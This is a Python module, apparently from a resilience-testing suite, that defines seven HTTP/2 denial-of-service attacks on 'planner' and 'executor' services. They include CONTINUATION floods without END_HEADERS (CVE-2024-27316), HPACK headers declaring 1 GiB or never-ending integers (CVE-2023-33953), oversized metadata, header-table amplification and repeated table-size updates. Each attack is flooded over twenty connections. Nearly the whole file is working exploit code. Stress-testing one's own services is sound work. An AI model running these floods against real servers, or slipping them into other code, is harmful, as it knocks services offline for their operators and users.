# SPDX-License-Identifier: Apache-2.0
"""Headers that are too large, too many, or without an end."""
import http2
from flood import attack, flood
from daemons import HONEST_CALLS

CONNECTIONS = 20


def headers_without_end(more):
    """HEADERS of one call, followed by CONTINUATIONs of `more` without END_HEADERS (CVE-2024-27316 and others)."""
    def produce(state):
        start = b""
        if state["stream"] == 1:
            start = http2.frame(http2.HEADERS, 0, 1, http2.request_headers("/a/b"))
            state["stream"] = 3
        return start + http2.frame(http2.CONTINUATION, 0, 1, more) * 20
    return produce


@attack("planner", "executor", "planner-tls")
def continuation_flood(target, until):
    """CONTINUATIONs with complete headers, which never end."""
    more = b"".join(http2.header(b"name-%d" % i, b"v" * 100) for i in range(130))
    flood(target, until, CONNECTIONS, http2.open_http2, headers_without_end(more))


@attack("planner", "executor")
def empty_continuations(target, until):
    """CONTINUATIONs of no bytes, which never end."""
    flood(target, until, CONNECTIONS, http2.open_http2, headers_without_end(b""))


@attack("planner", "executor", "planner-tls")
def endless_header(target, until):
    """One header that declares 1 GiB and is sent in CONTINUATIONs (CVE-2023-33953)."""
    def produce(state):
        if state["stream"] == 1:
            state["stream"] = 3
            declared = b"\0" + http2.hpack_integer(1, 7) + b"a" + http2.hpack_integer(1 << 30, 7)
            return http2.frame(http2.HEADERS, 0, 1, http2.request_headers("/a/b") + declared)
        return http2.frame(http2.CONTINUATION, 0, 1, b"v" * 16384) * 20
    flood(target, until, CONNECTIONS, http2.open_http2, produce)


@attack("planner", "executor")
def endless_integer(target, until):
    """A length in HPACK that never ends (CVE-2023-33953)."""
    def produce(state):
        if state["stream"] == 1:
            state["stream"] = 3
            return http2.frame(http2.HEADERS, 0, 1, b"\0\xff")
        return http2.frame(http2.CONTINUATION, 0, 1, b"\x80" * 16384) * 20
    flood(target, until, CONNECTIONS, http2.open_http2, produce)


@attack("planner", "executor")
def huge_metadata(target, until):
    """Calls with 60 KiB of metadata."""
    extra = [(b"name", b"v" * 15000)] * 4
    block = http2.request_headers(HONEST_CALLS[target.kind][0], extra)

    def produce(state):
        stream, state["stream"] = state["stream"], state["stream"] + 2
        parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        return (http2.frame(http2.HEADERS, 0, stream, parts[0]) +
                b"".join(http2.frame(http2.CONTINUATION, 0, stream, part) for part in parts[1:-1]) +
                http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, parts[-1]))
    flood(target, until, CONNECTIONS, http2.open_http2, produce, reads=True)


@attack("planner", "executor", "planner-tls")
def many_small_headers(target, until):
    """Calls with a thousand headers of one letter, which the dynamic table multiplies."""
    indexed = b"\x40" + b"\x01a" + b"\x01b" + b"\xbe" * 4000  # stored once, then referred to
    block = http2.request_headers(HONEST_CALLS[target.kind][0]) + indexed

    def produce(state):
        stream, state["stream"] = state["stream"], state["stream"] + 2
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
    flood(target, until, CONNECTIONS, http2.open_http2, produce, reads=True)


@attack("planner", "executor")
def table_size_updates(target, until):
    """Headers that change the size of the dynamic table again and again."""
    block = b"\x20\x3f\xe1\x1f" * 4000

    def produce(state):
        stream, state["stream"] = state["stream"], state["stream"] + 2
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
    flood(target, until, CONNECTIONS, http2.open_http2, produce, reads=True)
